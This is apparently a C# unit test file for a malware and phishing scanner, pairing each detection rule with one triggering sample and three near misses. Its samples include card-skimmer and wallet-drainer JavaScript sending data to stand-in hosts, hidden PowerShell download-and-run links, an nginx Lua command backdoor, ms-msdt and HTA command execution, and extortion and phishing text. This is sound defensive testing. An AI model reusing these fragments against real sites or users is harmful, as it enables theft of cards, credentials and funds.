using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.DocumentHeuristics;
using static ScanHost.Pipeline.Findings.SettingsHeuristics;
using static ScanHost.Pipeline.Findings.WebHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about traps in pages, letters and settings of web servers, and three honest ones of the same kind.</summary>
public sealed class TrapCases
{
    private const string Wallet = "bc1q000000000000000000000000000000000000";
    private const string Threat = "I recorded a video of you. I will send it to all your contacts. Pay 500 USD in bitcoin within 48 hours to ";
    private const string Scanning = "<h1>Your computer is infected</h1><p>A trojan was found. Do not restart. Call +1 855 555 0100.</p>";
    private const string Reads = "if(/checkout/.test(location.href)){var d={n:q('#cc_num').value,c:q('#cvv').value};";
    private const string Update = "<p>You are using an older version of Chrome.</p>";
    private const string Sorted = "'use strict';var table=";

    private static readonly HeuristicCase[] Letters =
    [
        new(ExtortingLetter, Letter(Threat + Wallet), Letter("> " + Threat + Wallet), Letter("You received 0.1 BTC at " + Wallet + ". It is confirmed within 2 hours."), Letter("Beware of letters that say: I recorded a video of you, I will send it to all your contacts, pay in bitcoin within 48 hours.")),
        new(NamelessLink, Letter("<a href='http://192.0.2.1/login'>https://www.firm.com/login</a>"), Letter("<a href='http://192.168.0.1/'>https://router.firm.com/</a>"), Letter("<a href='https://click.one.invalid/x'>https://www.firm.com/login</a>"), Letter("<a href='http://192.0.2.1/login'>the wiki</a>")),
    ];

    private static readonly HeuristicCase[] Split =
    [
        new(SplitWords, Letter(string.Concat(Enumerable.Repeat("pass\u200Bword ", 8))), Letter(string.Concat(Enumerable.Repeat("pass\u200Bword ", 3))), Letter(string.Concat(Enumerable.Repeat("\u200B \u00A0", 40))), Letter(string.Concat(Enumerable.Repeat("Donau\u00ADdampf\u00ADschiff ", 20)))),
    ];

    private static readonly HeuristicCase[] Documents =
    [
        new(CommandLink, Slides("powershell%20-w%20hidden%20-c%20iex(irm%20https://host.invalid/)"), Slides("https://docs.invalid/powershell%20-w"), Slides("..\\notes.docx"), Slides("mailto:a@one.invalid")),
        new(OfficeBait, Sheet("This document is protected. Click OPEN to sign in and view the statement.", "https://host.invalid/login"), Sheet("This document is protected. Click OPEN to sign in and view the statement.", "https://firm.sharepoint.com/a"),
            Sheet("Sign in to the portal to confirm that you have read the handbook.", "https://host.invalid/login"), Sheet("This document is protected by copyright.", "https://host.invalid/")),
    ];

    private static readonly HeuristicCase[] Pages =
    [
        HeuristicCase.Of(WriteDecrypted, "a.html", Script("document.write(CryptoJS.AES.decrypt(a,CryptoJS.enc.Utf8.parse('0123456789abcdef')).toString())"), Script("var k=prompt('Key');document.write(CryptoJS.AES.decrypt(a,k).toString());CryptoJS.enc.Utf8.parse('0123456789abcdef')"),
            Script("store(CryptoJS.AES.decrypt(a,CryptoJS.enc.Utf8.parse('0123456789abcdef')))"), Script("document.write(CryptoJS.SHA256(a).toString())")),
        HeuristicCase.Of(SeedPhrase, "a.html", Page("<h1>Wallet support</h1>Enter your recovery phrase<textarea id=phrase></textarea>" + Script("fetch('https://host.invalid/l',{method:'POST',body:phrase.value})")),
            Page("<h1>Wallet support</h1>Never tell your recovery phrase.<input name=search>" + Script("fetch('https://search.invalid/q',{method:'POST',body:search.value})")), Page("<h1>Wallet</h1>Enter your recovery phrase<textarea id=phrase></textarea>" + Script("derive(phrase.value)")),
            Page("Seed of the picture<input name=seed>" + Script("fetch('https://host.invalid/draw',{method:'POST'})"))),
        HeuristicCase.Of(DeviceCode, "a.html", Page(Script("fetch('https://host.invalid/c').then(r=>r.json()).then(j=>{c.innerText=j.user_code});window.open('https://microsoft.com/devicelogin')")), Page("Run az login and enter the code at <a href='https://microsoft.com/devicelogin'>the page</a>."),
            Page(Script("fetch('/api/code').then(j=>{c.innerText=j.user_code});window.open('https://microsoft.com/devicelogin')")), Page(Script("fetch('https://host.invalid/c').then(j=>{c.innerText=j.user_code})"))),
        HeuristicCase.Of(DrawnBrowser, "a.html", Page("Sign in - Google Chrome <div>https://login.microsoftonline.com/common</div><iframe src='https://host.invalid/'></iframe>"), Page("Open https://login.microsoftonline.com/common <iframe src='https://video.invalid/'></iframe>"),
            Page("Sign in - Google Chrome <div>https://login.microsoftonline.com/common</div><img src=a.png>"), Page("Best viewed in - Google Chrome <iframe src='https://maps.invalid/'></iframe>")),
        HeuristicCase.Of(Scare, "a.html", Page(Scanning + Script("document.documentElement.requestFullscreen()")), Page("<article>" + Scanning + "So it says; hang up.</article>"), Page("<h1>Space game</h1>" + Script("document.documentElement.requestFullscreen()")), Page("Our scanner found no virus. Call +1 855 555 0100 for orders." + Script("document.documentElement.requestFullscreen()"))),
        HeuristicCase.Of(HoldsVisitor, "a.html", Page(Scanning + Script("document.documentElement.requestFullscreen();onbeforeunload=f;document.body.requestPointerLock()")), Page("<h1>Space game</h1>" + Script("document.documentElement.requestFullscreen();onbeforeunload=f;document.body.requestPointerLock()")),
            Page(Scanning + Script("document.documentElement.requestFullscreen()")), Page(Scanning)),
        HeuristicCase.Of(FakeUpdate, "a.html", Page(Update + Script("location='https://host.invalid/dl/'+'Chrome_131.dmg'")), Page(Update + "<a href='https://www.google.com/chrome/'>Update</a>"), Page(Update + Script("e.src='https://browser-update.invalid/update.min.js'")), Page("Our program" + Script("location='https://host.invalid/dl/update.exe'"))),
        HeuristicCase.Of(CredentialWritten, "a.html", Page(Script("app.innerHTML='<form><input name=user><input type=password name=pw></form>'")), Page("<form><input type=password></form>"), Page(Script("var note='<input type=password> is a field'")), Page(Script("app.innerHTML='<input type=text>'"))),
        HeuristicCase.Of(FileServer, "a.html", Page("<a href='file://files.firm.invalid/print/'>Printers</a>"), Page("<a href='file:///C:/notes.txt'>notes</a>"), Page("<code>file://files.firm.invalid/print/</code>"), Page("<a href='https://files.firm.invalid/print/'>Printers</a>")),
        HeuristicCase.Of(ForwardsVictim, "a.html", "<html><head><meta http-equiv=refresh content='0; url=https://host.invalid/o?email=dana@two.invalid'></head><body>Loading...</body></html>", "<html><head><meta http-equiv=refresh content='0; url=https://host.invalid/new'></head><body>Moved</body></html>",
            Page("You are leaving our pages. The survey is run by another firm, which we have chosen with care; it learns your address, so that nobody answers twice. <meta http-equiv=refresh content='9; url=https://host.invalid/o?email=dana@two.invalid'>"), Page("<form><input name=q></form><iframe src='https://host.invalid/o?email=dana@two.invalid'></iframe>")),
        HeuristicCase.Of(ProtocolCommand, "a.html", Page(Script("location.href='ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=h$(calc)i/x.exe'")), Page("<a href='ms-msdt:/id NetworkDiagnosticsWeb'>Repair</a>"), Page("<p>ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x was a flaw</p>"), Page("<a href='ms-officecmd:%7B%22id%22:3%7D'>Open</a>")),
        HeuristicCase.Of(HtaProgram, "a.hta", "<html><hta:application id=x><script>function go(){new ActiveXObject('WScript.Shell').Run('msiexec /i a.msi',1,true)}</script><button onclick='go()'>Install</button></html>",
            "<html><hta:application id=x><script>function go(){alert(1)}</script><button onclick='go()'>Show</button></html>", "<html><hta:application id=x><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>",
            "<html><hta:application id=x><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c calc',0)</script><button>OK</button></html>"),
        HeuristicCase.Of(WalletBait, "a.html", Page("Claim your airdrop" + Script("c.setApprovalForAll(r,true)")), Page("Claim your airdrop at the desk"), Page("Sell your picture" + Script("c.setApprovalForAll(r,true)")), Page("Claim your refund" + Script("s.signMessage('I vote')"))),
    ];

    private static readonly HeuristicCase[] Scripts =
    [
        HeuristicCase.Of(WalletDrain, "a.js", Sorted + "1;window.ethereum;fetch('https://host.invalid/t?a='+a);c.setApprovalForAll(r,true);d.increaseAllowance(r,ethers.constants.MaxUint256);", Sorted + "1;window.ethereum;fetch('/t?a='+a);c.setApprovalForAll(r,true);d.increaseAllowance(r,ethers.constants.MaxUint256);",
            Sorted + "1;window.ethereum;fetch('https://host.invalid/t?a='+a);d.approve(r,ethers.constants.MaxUint256);", Sorted + "1;window.ethereum;fetch('https://host.invalid/t?a='+a);c.balanceOf(a);"),
        HeuristicCase.Of(CardSkimmer, "a.js", Reads + "navigator.sendBeacon('https://host.invalid/p',btoa(JSON.stringify(d)))}", Reads + "fetch('https://pay.invalid/tokens',{method:'POST',body:JSON.stringify(d)})}",
            Reads + "fetch('https://pay.invalid/tokens',{headers:{Authorization:'Basic ' + btoa(key+':')},body:JSON.stringify(d)})}", Reads + "submit(btoa(JSON.stringify(d)))}"),
        HeuristicCase.Of(CardOverlay, "a.js", Sorted + "1;$('iframe[name^=__privateStripeFrame]').hide();el.append('<input id=\"cardn\" placeholder=\"1234 1234\">');", Sorted + "1;$('iframe[name^=__privateStripeFrame]').hide();el.append('<p>Thank you</p>');", Sorted + "1;stripe.elements().create('card');el.append('<input id=\"cardname\">');", Sorted + "1;$('.stripe-row').show();el.append('<input id=\"cvc\">');"),
        HeuristicCase.Of(HiddenFetchRun, "a.js", Sorted + "1;var s=atob('aG9zdC5pbnZhbGlk');var w=new WebSocket('wss://'+s+'/c');w.onmessage=function(e){new Function(e.data)()};", Sorted + "1;var s=atob('aG9zdC5pbnZhbGlk');var w=new WebSocket('wss://'+s+'/c');w.onmessage=function(e){show(e.data)};",
            Sorted + "1;var w=new WebSocket('wss://host.invalid/c');w.onmessage=function(e){new Function(e.data)()};", Sorted + "1;var s=atob(text);fetch('/c');new Function(s)();"),
        HeuristicCase.Of(ChainCode, "a.js", Sorted + "1;fetch(u,{body:JSON.stringify({method:'eth_call'})}).then(r=>r.json()).then(r=>eval(atob(r.result)));", Sorted + "1;fetch(u,{body:JSON.stringify({method:'eth_call'})}).then(r=>r.json()).then(r=>show(r.result));", Sorted + "1;fetch(u).then(r=>r.text()).then(r=>eval(r));", Sorted + "1;provider.on('block',show);new Function('return this')();"),
        HeuristicCase.Of(InvisibleCode, "a.js", Sorted + $"\"{new string('\u3164', 80)}\";String.fromCharCode(parseInt(table,2));", Sorted + $"\"{new string('\u3164', 20)}\";String.fromCharCode(parseInt(table,2));", Sorted + $"\"{new string('\u200B', 80)}\";show(table);", Sorted + "\"\";String.fromCharCode(parseInt(table,2));"),
    ];

    private static readonly HeuristicCase[] Sites =
    [
        HeuristicCase.Of(CloakedRedirect, ".htaccess", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing)\\. [NC]\nRewriteRule ^(.*)$ https://host.invalid/?k=$1 [R=302,L]\n", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} !google\\. [NC]\nRewriteRule \\.(jpg|png)$ https://host.invalid/no.jpg [R]\n",
            "RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]\n", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} semalt\\.com [NC]\nRewriteRule .* - [F]\n"),
        HeuristicCase.Of(PicturesRun, ".htaccess", "AddType application/x-httpd-php .ico .jpg\nOptions -Indexes\n", "AddType application/x-httpd-php .php .html\nOptions -Indexes\n", "AddType image/x-icon .ico\nOptions -Indexes\n", "php_value auto_prepend_file \"/var/www/html/wordfence-waf.php\"\nOptions -Indexes\n"),
        HeuristicCase.Of(RequestRuns, "nginx.conf", Nginx("access_by_lua_block { local h=ngx.req.get_headers()[\"X-T\"]; io.popen(ngx.decode_base64(h)) }"), Nginx("access_by_lua_block { local h=ngx.req.get_headers()[\"X-T\"]; if h ~= token then return ngx.exit(403) end }"), Nginx("init_by_lua_block { io.popen(\"date\") }"), Nginx("return 301 https://$host$request_uri;")),
        HeuristicCase.Of(PutsScriptIn, "nginx.conf", Nginx("sub_filter '</head>' '<script src=\"https://host.invalid/a.js\"></script></head>';"), Nginx("sub_filter 'http://old.invalid' 'https://new.invalid';"), Nginx("sub_filter '</head>' '<link rel=stylesheet href=/a.css></head>';"), Nginx("sub_filter '</head>' '<script src=\"/a.js\"></script></head>';")),
        HeuristicCase.Of(RemoteCommand, "a.rdp", "full address:s:host.invalid\r\nremoteapplicationprogram:s:mshta.exe\r\nremoteapplicationcmdline:s:https://host.invalid/t\r\n", "full address:s:host.invalid\r\nremoteapplicationprogram:s:||winword\r\nremoteapplicationcmdline:s:https://host.invalid/t.docx\r\n",
            "full address:s:host.invalid\r\nremoteapplicationprogram:s:cmd.exe\r\n", "full address:s:host.invalid\r\nalternate shell:s:||RDesk\r\n"),
    ];

    private static HeuristicCase[] All => [.. Letters, .. Split, .. Documents, .. Pages, .. Scripts, .. Sites];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => All[row].CheckAsync();

    private static SampleFile Letter(string html) =>
        new("a.eml", $"Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-Id: <1@one.invalid>\nTo: you@two.invalid\nFrom: a@one.invalid\nMIME-Version: 1.0\nContent-Type: {(html.Contains('<', StringComparison.Ordinal) ? "text/html" : "text/plain")}\n\n{html}\n");

    private static SampleFile Slides(string target) => new("a.ppsx", new OoxmlBuilder()
        .Part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/ppt/presentation.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml\"/></Types>")
        .Relationship("_rels/.rels", "officeDocument", "ppt/presentation.xml", isExternal: false).Part("ppt/presentation.xml", "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>")
        .Relationship("ppt/slides/_rels/slide1.xml.rels", "hyperlink", target).Build());

    private static SampleFile Sheet(string text, string link) => new("a.xlsx", OoxmlBuilder.Excel()
        .Part("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{text}</t></is></c></row></sheetData></worksheet>")
        .Relationship("xl/worksheets/_rels/sheet1.xml.rels", "hyperlink", link).Build());

    private static string Page(string body) => $"<html><head><title>a</title></head><body>{body}</body></html>";

    private static string Script(string code) => $"<html><body><script>{code}</script></body></html>";

    private static string Nginx(string setting) => $"events {{ }}\nhttp {{\n  server {{\n    listen 80;\n    location / {{\n      {setting}\n    }}\n  }}\n}}\n";
}
